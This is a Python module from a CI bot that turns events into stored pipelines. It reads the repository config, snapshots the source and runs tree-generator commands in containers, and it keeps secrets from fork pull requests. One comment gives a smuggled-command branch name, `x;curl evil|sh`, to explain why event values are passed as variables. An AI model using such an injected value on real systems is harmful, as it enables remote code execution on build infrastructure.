"""Turning an event into a stored pipeline: read the config, select, snapshot the source.

The config is read from the very source the containers will see, so what runs
is what the config at that commit says.  Generated trees (an entry's
``command``) are made here, by running the command in a container.
"""

from __future__ import annotations

import dataclasses
import logging
import uuid
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from ci_bot.engine import launch_facts
from ci_bot.errors import CiBotError, ConfigError, ConfigProblem
from ci_bot.executors.base import DONE, ExecSpec, Executor
from ci_bot.executors.logs import tail
from ci_bot.git import Commit, local_head, local_snapshot
from ci_bot.history import History
from ci_bot.local_repo import export_commit, is_dirty
from ci_bot.settings import Settings
from ci_bot.store.records import HandledDelivery, NewPipeline
from ci_bot.store.store import Store
from ci_bot.tree.config import CONFIG_FILES, Config, EventEntry, parse_config
from ci_bot.tree.nodes import Node
from ci_bot.tree.params import PARAMS
from ci_bot.tree.paths import directories_of
from ci_bot.tree.select import Event, NoMatch, prepare, select
from ci_bot.tree.treejson import dumps, from_json

logger = logging.getLogger(__name__)

GENERATED_TREE = ".ci-bot-tree.json"
GENERATOR_GIT_DEPTH: int = PARAMS["git_depth"].default  # a generator's /workspace/.git
# The directory a local run was launched from: where `ci-bot rerun --at REF` finds REF.
LOCAL_DIR_META = "local_repo_dir"


class NoPipeline(CiBotError):
    """The event matched no entry of the config; the message says why, entry by entry."""


def launch_local(
    store: Store,
    settings: Settings,
    executor: Executor,
    repo_dir: Path,
    event: Event,
    *,
    at: str = "",
) -> int:
    """Snapshot a working directory as it is (uncommitted changes too: the pipeline is
    then recorded as dirty) or, with ``at``, that commit of it, and store its pipeline
    for ``event``."""
    source = settings.data_dir / "sources" / uuid.uuid4().hex
    if at:
        commit: Commit | None = export_commit(repo_dir, at, source)
        dirty = False
    else:
        local_snapshot(repo_dir, source)
        commit = local_head(repo_dir)
        dirty = commit is not None and is_dirty(repo_dir)
    event = _complete(event, repo_dir.resolve().name, commit)
    history = History.of_work_tree(repo_dir)  # the nodes' .git, a tag's release notes
    pipeline_id = launch(
        store, settings, executor, source, event, commit, dirty=dirty, history=history
    )
    store.set_meta(pipeline_id, LOCAL_DIR_META, str(repo_dir.resolve()))
    return pipeline_id


def launch(
    store: Store,
    settings: Settings,
    executor: Executor,
    source: Path,
    event: Event,
    commit: Commit | None,
    *,
    trusted: bool = True,
    dirty: bool = False,
    history: History | None = None,
    metas: Mapping[str, Any] | None = None,
    parsed: tuple[str, Config] | None = None,
    handled: HandledDelivery | None = None,
) -> int:
    """Store the pipeline that ``event`` selects from the config in ``source``;
    ``trusted=False`` (a pull request from a fork) means its Execs get no secrets;
    ``dirty``: ``source`` has uncommitted changes on top of ``commit``; ``history``
    (the repository's, when there is one) gives the nodes their ``.git``; ``metas``
    are stored with the pipeline, in one write; ``parsed``: (file, config) as the
    caller parsed it from the same commit, not to parse it again; ``handled``: the
    delivery the pipeline's write marks handled."""
    if parsed is not None:
        config_file, config = parsed
    else:
        config_file, config = _read_config(source)
    files = launch_facts.source_files(source)
    directories = directories_of(files)
    plan = select(config, event, directories)
    if isinstance(plan, NoMatch):
        raise NoPipeline(plan.explain())
    tree, skipped = plan.tree, dict(plan.skipped)
    launch_facts.record_changes(source, plan.changes, files)
    if tree is None:
        launch_facts.record_history(source, history, event, [GENERATOR_GIT_DEPTH])
        generated = generate_tree(
            settings, executor, plan.entry, event, source, config_file, trusted=trusted
        )
        tree, skipped = prepare(generated, event, plan.changes, directories)
    launch_facts.record_history(source, history, event, launch_facts.exec_depths(tree))
    new = NewPipeline(
        repo=event.repo,
        event=event.name,
        tree_json=dumps(tree),
        branch=event.branch,
        base_branch=event.base_branch,
        tag=event.tag,
        pr=event.pr,
        sha=event.sha,
        author=event.author,
        title=commit.title if commit else "",
        entry=plan.entry.label,
        config_file=config_file,
        source_dir=str(source),
        trusted=trusted,
        dirty=dirty,
    )
    return store.create_pipeline(new, tree, skipped, metas, handled)


def _read_config(source: Path) -> tuple[str, Config]:
    config_file = next((name for name in CONFIG_FILES if (source / name).is_file()), None)
    if config_file is None:
        raise NoPipeline(f"no {' or '.join(CONFIG_FILES)} at the root of the repository")
    text = (source / config_file).read_text(encoding="utf-8")
    return config_file, parse_config(text, file=config_file)


def generate_tree(
    settings: Settings,
    executor: Executor,
    entry: EventEntry,
    event: Event,
    source: Path,
    config_file: str,
    *,
    trusted: bool = True,
) -> Node:
    """Run the entry's ``command`` at the commit; what it prints is the tree.  A fork's
    generator gets no registry credentials, and the limits every node gets; like a node,
    it sees what changed (``$CI_CHANGED_FILES``) and a ``.git``."""
    work = settings.data_dir / "generate" / uuid.uuid4().hex
    (work / "data").mkdir(parents=True)
    env = {f"CI_{name.upper()}": value for name, value in event.values().items()}
    spec = ExecSpec(
        pipeline_id=f"generate-{work.name}",
        node_path="/generate",
        execution_id=work.name,
        image=entry.image or "",
        # Only the repository's own command is in the shell string; event values
        # (a branch may be named `x;curl evil|sh`) reach it as variables.
        command=f"({entry.command}) > /ci/data/{GENERATED_TREE}",
        source_dir=source,
        data_dir=work / "data",
        cache_dir=work / "cache",
        log_path=work / "generate.log",
        env={"CI": "true", "CI_BOT": "1", **env, **launch_facts.change_env(source)},
        workspace_extras=launch_facts.workspace_extras(source, GENERATOR_GIT_DEPTH),
        mem_bytes=settings.default_mem,
        pids_limit=settings.default_pids,
        log_limit=settings.log_limit,
        trusted=trusted,
    )
    if not entry.image:
        raise _generation_error(config_file, entry, "needs `image`, the image it runs in")
    try:
        result = executor.run(spec)
    finally:  # the workspace image built for this one container
        _release(executor, spec.pipeline_id)
    if result.state != DONE:
        lines = "\n".join(tail(spec.log_path, 20))
        raise _generation_error(config_file, entry, f"{result.message or result.state}\n{lines}")
    output = spec.data_dir / GENERATED_TREE
    return from_json(output.read_text(encoding="utf-8"), file=f"output of {entry.command!r}")


def _release(executor: Executor, pipeline_id: str) -> None:
    try:
        executor.discard_pipeline(pipeline_id)
    except CiBotError:
        logger.exception("releasing the resources of %s failed", pipeline_id)


def _generation_error(config_file: str, entry: EventEntry, message: str) -> ConfigError:
    where = f"{entry.event}.command ({entry.command!r})"
    return ConfigError([ConfigProblem(config_file, entry.line, f"{where}: {message}", key=where)])


def _complete(event: Event, repo: str, commit: Commit | None) -> Event:
    return dataclasses.replace(
        event,
        repo=event.repo or repo,
        sha=event.sha or (commit.sha if commit else ""),
        author=event.author or (commit.author if commit else ""),
    )
